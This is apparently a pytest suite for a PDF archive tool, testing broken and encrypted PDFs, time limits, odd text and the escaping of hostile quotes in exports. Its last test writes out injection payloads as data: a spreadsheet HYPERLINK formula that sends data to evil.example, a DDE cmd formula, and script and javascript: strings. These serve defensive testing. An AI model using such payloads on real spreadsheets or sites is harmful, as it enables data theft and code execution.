"""Broken and hostile input: the real-world corpus, encrypted files, time limits, odd text, hostile quotes."""
import csv
import json
import os
import re
import subprocess
import sys
import time

import pymupdf
import pytest

from app.check import check
from app.ingest import ingest
from app.search import search
from archive import Archive
from archive.pdftext import saslprep, tesseract_available
from tests.conftest import CORPUS, LETTER, ROOT, make_pdf, requires_corpus

KNOWN_PREFIXES = ("encrypted: ", "damaged: ", "not a PDF: ", "timed out: ")
NO_PAGES = ("pdfjs__GHOSTSCRIPT-698804-1-fuzzed.pdf", "pdfjs__issue9418.pdf", "qpdf__issue-146.pdf",
            "samplefiles__unreadablemetadata.pdf")
UNOPENABLE = ("pdfjs__poppler-742-0-fuzzed.pdf", "pdfjs__poppler-85140-0.pdf", "qpdf__issue-141b.pdf")
SCANNED = ("pymupdf__test_4034.pdf", "pymupdf__test_3863.pdf", "pdfminer__pdf-with-jbig2.pdf", "aleph__jbig2.pdf",
           "aleph__greek.pdf", "pdfjs__issue5481.pdf", "pdfminer__175.pdf")
GOOD_TEXT = ("pdfjs__tracemonkey.pdf", "pdfminer__jo.pdf", "samplefiles__habibi.pdf", "pymupdf__chinese-tables.pdf",
             "pdfjs__helloworld-bad.pdf", "qpdf__append-page-content-damaged.pdf", "pdfminer__dmca.pdf")


def manifest() -> dict[str, dict]:
    with open(CORPUS / "MANIFEST.tsv", encoding="utf-8", newline="") as fh:
        rows = {r["file"]: r for r in csv.DictReader(fh, delimiter="\t")}
    for r in rows.values():
        # The password column writes invisible characters as \uXXXX.
        r["password"] = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), r["password"])
    return rows


@pytest.fixture(scope="module")
def corpus_run(tmp_path_factory):
    if not CORPUS.is_dir():
        pytest.skip("../shared/corpus is not present")
    archive = Archive.open(tmp_path_factory.mktemp("corpus") / "archive")
    started = time.perf_counter()
    report = ingest(archive, [CORPUS], ocr=False, workers=2)
    seconds = time.perf_counter() - started
    yield archive, report, seconds
    archive.close()


def _docs(archive) -> dict[str, dict]:
    cur = archive.db.execute("SELECT file_name, id, pages, no_text, text_problem FROM documents")
    return {r[0]: dict(zip(("file_name", "id", "pages", "no_text", "text_problem"), r)) for r in cur.fetchall()}


@requires_corpus()
def test_whole_corpus_is_added_or_failed_with_a_reason(corpus_run):
    archive, report, seconds = corpus_run
    files = sorted(p.name for p in CORPUS.glob("*.pdf"))
    docs = _docs(archive)
    flagged = sorted(n for n, d in docs.items() if d["no_text"] or d["text_problem"])
    no_text = [n for n in flagged if docs[n]["no_text"]]
    print(f"\ncorpus: {len(files)} files -> {len(report.added)} added, {len(report.failed)} failed, "
          f"{len(flagged)} flagged ({len(no_text)} with no usable text at all, {len(flagged) - len(no_text)} "
          f"with some pages that need OCR or are damaged), in {seconds:.1f} s (OCR off)")
    for f in report.failed:
        print(f"  failed  {os.path.basename(f['file'])}: {f['error']}")
    assert len(report.added) + len(report.failed) + len(report.duplicates) == len(files)
    assert not report.duplicates
    for f in report.failed:
        assert f["error"].startswith(KNOWN_PREFIXES), f
        assert "\n" not in f["error"] and len(f["error"]) < 300
    assert len(report.added) >= 55 and len(report.failed) <= 22 and len(flagged) >= 10
    assert check(archive) == []


@requires_corpus()
def test_known_files_fail_or_are_flagged_for_the_right_reason(corpus_run):
    archive, report, _ = corpus_run
    failed = {os.path.basename(f["file"]): f["error"] for f in report.failed}
    docs = _docs(archive)
    rows = manifest()
    for name, row in rows.items():
        if row["password"]:
            assert failed[name] == "encrypted: needs a password", name
    assert failed["aleph__empty.pdf"] == "not a PDF: the file is empty"
    assert failed["qpdf__bad1.pdf"] == "not a PDF: no PDF header"
    for name in NO_PAGES:
        assert failed[name] == "damaged: the PDF has no pages", name
    for name in UNOPENABLE:
        assert failed[name].startswith("damaged: cannot be opened or repaired ("), failed[name]
    for name in SCANNED:
        assert docs[name]["no_text"] == 1 and "needs OCR" in docs[name]["text_problem"], name
    # A text layer of control characters is not indexed as if it were text.
    assert docs["aleph__example.pdf"]["no_text"] == 1
    assert not archive.db.execute("SELECT COUNT(*) FROM pages WHERE doc_id = ? AND text <> ''",
                                  [docs["aleph__example.pdf"]["id"]]).fetchone()[0]
    xfa = docs["pdfjs__xfa_filled_imm1344e.pdf"]
    assert xfa["no_text"] == 1 and xfa["text_problem"] == "placeholder text (XFA form)"
    assert search(archive, '"if this message is not eventually replaced"').total == 0
    blank = docs["pdfjs__empty_protected.pdf"]        # owner-password only: opens, but has nothing
    assert blank["no_text"] == 1 and blank["text_problem"] == "blank page"
    # A page tree with a cycle loses the bad page, not the document.
    tree = docs["pdfjs__Pages-tree-refs.pdf"]
    assert tree["pages"] == 2 and tree["no_text"] == 0 and tree["text_problem"].startswith("damaged page: ")
    assert docs["aleph__500 pages.pdf"]["pages"] == 500
    for name in GOOD_TEXT:
        assert docs[name]["no_text"] == 0 and docs[name]["text_problem"] == "", name
    assert search(archive, "trace tree").total >= 1


@requires_corpus()
def test_encrypted_files_open_with_their_passwords(tmp_path):
    rows = {n: r for n, r in manifest().items() if r["password"]}
    assert len(rows) >= 8
    paths = {str(CORPUS / n): r["password"] for n, r in rows.items()}
    with Archive.open(tmp_path / "a") as archive:
        report = ingest(archive, list(paths), passwords=paths, ocr=False)
        assert report.failed == [], report.failed
        assert len(report.added) == len(rows)
        for added in report.added:
            original = (CORPUS / os.path.basename(added["file"])).read_bytes()
            stored = archive.store.read(added["id"])
            assert stored == original, "the stored original stays byte-identical (still encrypted)"
            assert pymupdf.open(stream=stored, filetype="pdf").needs_pass
        assert check(archive) == []
        visible = " ".join(r[0] for r in archive.db.execute(
            "SELECT file_name || ' ' || pdf_meta FROM documents UNION ALL SELECT text FROM pages"))
    # The password is never stored: not in the database, its journal or the index (passwords
    # that are part of a file's name or text, such as "hunter2", cannot be told apart).
    secrets = [pw for pw in set(paths.values()) | {saslprep(rows["pdfjs__saslprep-r6.pdf"]["password"])}
               if len(pw) >= 4 and pw not in visible]
    assert len(secrets) >= 5
    for path in (tmp_path / "a").rglob("*"):
        if path.is_file() and "files" not in path.parts:
            data = path.read_bytes()
            for secret in secrets:
                assert secret.encode("utf-8") not in data, (secret, path)
                assert secret.encode("utf-16-le") not in data, (secret, path)


@requires_corpus()
def test_saslprep_password_is_normalised_before_it_is_tried(tmp_path):
    name = "pdfjs__saslprep-r6.pdf"
    typed = manifest()[name]["password"]
    assert "\u00ad" in typed and "ª" in typed
    doc = pymupdf.open(CORPUS / name)
    assert not doc.authenticate(typed), "as typed, the password is rejected"
    assert saslprep(typed) == "SaSLprep"
    # Through the command line, as a user would type it.
    out = subprocess.run([sys.executable, "main.py", "--archive", str(tmp_path / "a"), "ingest", "--json",
                          "--password", typed, str(CORPUS / name), str(CORPUS / "pdfjs__issue6010_2.pdf")],
                         cwd=ROOT, capture_output=True, text=True, timeout=120)
    data = json.loads(out.stdout)
    assert out.returncode == 1, out.stderr
    assert [os.path.basename(a["file"]) for a in data["added"]] == [name]
    assert data["failed"][0]["error"] == "encrypted: the password is wrong"
    out = subprocess.run([sys.executable, "main.py", "--archive", str(tmp_path / "a"), "ingest", "--password",
                          "æøå", str(CORPUS / "pdfjs__issue6010_2.pdf")],
                         cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0 and "1 added" in out.stdout


@requires_corpus()
def test_one_scanned_file_with_ocr(tmp_path):
    if not tesseract_available():
        pytest.skip("Tesseract is not installed")
    with Archive.open(tmp_path / "a") as archive:
        started = time.perf_counter()
        report = ingest(archive, [CORPUS / "pdfminer__pdf-with-jbig2.pdf"], ocr=True)
        print(f"\nOCR of one scanned page: {time.perf_counter() - started:.1f} s")
        assert report.added[0]["ocr_pages"] == [1]
        assert search(archive, "doesn't").total == 1      # "It Doesn't Work?!?!?!", in a speech bubble


def test_extraction_is_stopped_at_the_time_limit(tmp_path):
    doc = pymupdf.open()
    for i in range(400):
        doc.new_page().insert_text((72, 72), f"Page {i} of a long report about nothing in particular.")
    big = tmp_path / "big.pdf"
    doc.save(big)
    with Archive.open(tmp_path / "a") as archive:
        started = time.perf_counter()
        report = ingest(archive, [big], ocr=False, timeout=0.05)
        assert time.perf_counter() - started < 30
        assert report.added == []
        assert report.failed[0]["error"].startswith("timed out: reading took longer than 0.05 s")
        assert check(archive) == []
        report = ingest(archive, [big], ocr=False)      # with the normal limit it is read
        assert report.added[0]["pages"] == 400


def test_gigantic_page_is_not_rasterised_for_ocr(tmp_path):
    if not tesseract_available():
        pytest.skip("Tesseract is not installed")
    doc = pymupdf.open()
    page = doc.new_page(width=14400, height=14400)       # the largest page PDF allows: 200 inches
    pix = pymupdf.Pixmap(pymupdf.csGRAY, pymupdf.IRect(0, 0, 40, 40), False)
    pix.clear_with(128)
    page.insert_image(pymupdf.Rect(0, 0, 14400, 14400), pixmap=pix)
    path = tmp_path / "giant.pdf"
    doc.save(path)
    with Archive.open(tmp_path / "a") as archive:
        report = ingest(archive, [path], ocr=True)
        assert report.added[0]["text_problem"].startswith("page too large to OCR (14400×14400 pt)")


def _odd_pdf() -> bytes:
    """A PDF whose text maps to lone surrogates (via ToUnicode) and whose metadata holds a NUL,
    Latin-1 bytes and an unpaired UTF-16 surrogate."""
    content = b"BT /F1 24 Tf 72 700 Td (Hello AB world) Tj 0 -40 Td (caf\xe9 \x01\x02 ok) Tj ET"
    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def\n"
            b"1 begincodespacerange <00> <FF> endcodespacerange\n"
            b"2 beginbfchar <41> <D800> <42> <DC80> endbfchar\n"
            b"endcmap CMapName currentdict /CMap defineresource pop end end")
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Length %d >>\nstream\n" % len(cmap) + cmap + b"\nendstream",
        b"<< /Title <FEFFD800004100DC8000420000> /Author (Caf\xe9 \\000 nul) /Subject <FEFFDBFF> >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 7 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def _cli(archive, *args, ok=(0,)):
    out = subprocess.run([sys.executable, "main.py", "--archive", str(archive), *map(str, args)],
                         cwd=ROOT, capture_output=True, timeout=120)
    assert out.returncode in ok, out.stderr.decode("utf-8", "replace")
    assert b"Traceback" not in out.stderr
    return out.stdout.decode("utf-8")      # strict: the output must be valid UTF-8


def test_lone_surrogates_and_odd_names_never_crash(tmp_path):
    try:
        odd = tmp_path / os.fsdecode(b"bad-\xff\xfe-name.pdf")       # not UTF-8: Python holds it as surrogates
        odd.write_bytes(_odd_pdf())
    except (OSError, UnicodeError):
        pytest.skip("this file system refuses names that are not UTF-8")
    arch = tmp_path / "a"
    added = json.loads(_cli(arch, "ingest", "--json", "--no-ocr", odd))["added"][0]
    assert "\ufffd" in added["file"] and "\udcff" not in added["file"]
    assert json.loads(_cli(arch, "docs", "--json"))[0]["id"] == added["id"]
    shown = json.loads(_cli(arch, "show", added["id"][:8], "--json"))
    assert "Hello" in shown["text"][0]["text"]
    assert json.loads(_cli(arch, "search", "hello", "--json"))["total"] == 1
    _cli(arch, "tag", added["id"][:8], "--quote", "Hello", "--kind", "claim", "--by", "Caf\u00e9 \udcff".encode(
        "utf-8", "surrogateescape").decode("utf-8", "replace"))
    for fmt in ("csv", "html", "md", "json"):
        assert "Hello" in _cli(arch, "timeline", "--format", fmt)
    _cli(arch, "backup", "--output", tmp_path / "b.zip")
    _cli(arch, "export-bundle", "--all", "--output", tmp_path / "s.zip")
    _cli(tmp_path / "b", "import-bundle", tmp_path / "s.zip")
    assert "ok" in _cli(arch, "check")
    with Archive.open(arch) as archive:
        for table in ("documents", "pages", "passages", "parties"):
            cur = archive.db.execute(f"SELECT * FROM {table}")
            for row in cur.fetchall():
                for value in row:
                    if isinstance(value, str):
                        value.encode("utf-8")               # raises on a lone surrogate
                        assert "\x00" not in value
        meta = json.loads(archive.db.execute("SELECT pdf_meta FROM documents").fetchone()[0])
        assert meta["author"].startswith("Café")


HOSTILE = """Open Rights Watch

London, 27 April 2021

Dear Ms. Kessler,

=HYPERLINK("http://evil.example/steal?x="&A1,"Click here")
<script>alert('owned')</script> & <img src=x onerror=alert(1)>
[click](javascript:alert(1)) | col | *bold* _it_ `code`
# not a heading

Sincerely,
Anna Lindqvist
"""


def test_hostile_quotes_are_escaped_in_every_timeline_export(tmp_path):
    pdf = make_pdf(tmp_path / "in" / "hostile.pdf", [HOSTILE])
    arch = tmp_path / "a"
    doc = json.loads(_cli(arch, "ingest", "--json", "--no-ocr", pdf))["added"][0]["id"][:10]
    quotes = ['=HYPERLINK("http://evil.example/steal?x="&A1,"Click here")',
              "<script>alert('owned')</script> & <img src=x onerror=alert(1)>",
              "[click](javascript:alert(1)) | col | *bold* _it_ `code`",
              "# not a heading"]
    for i, q in enumerate(quotes):
        _cli(arch, "tag", doc, "--quote", q, "--kind", "claim", "--on", f"2021-04-2{i}",
             "--by", "=cmd|' /C calc'!A0", "--note", "<b>note</b> [x](http://e.example)")
    rows = list(csv.reader(_cli(arch, "timeline", "--format", "csv").splitlines()))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert any(cell.startswith("'=HYPERLINK(") for row in rows for cell in row)
    assert any(cell == "'=cmd|' /C calc'!A0" for row in rows for cell in row)
    page = _cli(arch, "timeline", "--format", "html")
    assert "<script>alert" not in page and "<img src=x" not in page and "<b>note</b>" not in page
    assert "&lt;script&gt;alert(&#x27;owned&#x27;)&lt;/script&gt;" in page
    md = _cli(arch, "timeline", "--format", "md")
    assert "[click](javascript" not in md and "<script>" not in md
    assert "\\[click\\]" in md and "\\# not a heading" in md
